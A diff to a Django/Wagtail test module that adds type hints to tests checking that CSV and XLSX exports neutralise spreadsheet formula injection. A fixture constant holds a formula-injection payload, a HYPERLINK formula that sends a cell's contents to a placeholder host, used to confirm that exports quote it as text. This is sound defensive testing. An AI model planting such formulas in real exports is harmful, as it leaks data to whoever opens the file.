@@ -2,9 +2,12 @@
 
 import csv
 import io
+from typing import Any
 
 import pytest
 from django.contrib.auth import get_user_model
+from django.http import HttpResponse
+from django.test import Client
 from django.urls import reverse
 from openpyxl import load_workbook
 
@@ -15,22 +18,22 @@ from tests.factories import NewsletterPageFactory, PersonFactory, ResourcePageFa
 FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
 
 
-def rows_of(response):
+def rows_of(response: HttpResponse) -> list[dict[str, Any]]:
     text = b"".join(response.streaming_content).decode()
     return list(csv.DictReader(io.StringIO(text)))
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_neutralise_quotes_what_would_become_a_formula(start):
+def test_neutralise_quotes_what_would_become_a_formula(start: str) -> None:
     assert neutralise(f"{start}1+1") == f"'{start}1+1"
 
 
 @pytest.mark.parametrize("text", ["", "Élue", "1 - 1", "« = »"])
-def test_neutralise_leaves_words_alone(text):
+def test_neutralise_leaves_words_alone(text: str) -> None:
     assert neutralise(text) == text
 
 
-def test_csv_of_people_has_the_columns_of_the_list(superuser_client):
+def test_csv_of_people_has_the_columns_of_the_list(superuser_client: Client) -> None:
     PersonFactory(name="Anaïs L’Hévéder", category=PersonCategory.ELU)
     url = reverse("wagtailsnippets_people_person:list")
     (row,) = rows_of(superuser_client.get(url, {"export": "csv"}))
@@ -39,14 +42,14 @@ def test_csv_of_people_has_the_columns_of_the_list(superuser_client):
     assert row["Fonction"] == ""
 
 
-def test_csv_of_a_list_cannot_run_a_formula(superuser_client):
+def test_csv_of_a_list_cannot_run_a_formula(superuser_client: Client) -> None:
     ResourcePageFactory(title=FORMULA, author="@auteur")
     (row,) = rows_of(superuser_client.get(reverse("resources:index"), {"export": "csv"}))
     assert row["Titre"] == f"'{FORMULA}"
     assert row["Auteur"] == "'@auteur"
 
 
-def test_csv_of_wagtail_itself_cannot_run_a_formula(superuser_client):
+def test_csv_of_wagtail_itself_cannot_run_a_formula(superuser_client: Client) -> None:
     page = ResourcePageFactory(title=FORMULA)
     page.save_revision(user=get_user_model().objects.first(), log_action=True)
     url = reverse("wagtailadmin_reports:site_history")
@@ -55,7 +58,7 @@ def test_csv_of_wagtail_itself_cannot_run_a_formula(superuser_client):
     assert f',"{FORMULA[:10]}' not in text
 
 
-def test_xlsx_of_a_list_holds_text_and_not_formulas(superuser_client):
+def test_xlsx_of_a_list_holds_text_and_not_formulas(superuser_client: Client) -> None:
     NewsletterPageFactory(title=FORMULA, number=4)
     response = superuser_client.get(reverse("letters:index"), {"export": "xlsx"})
     sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
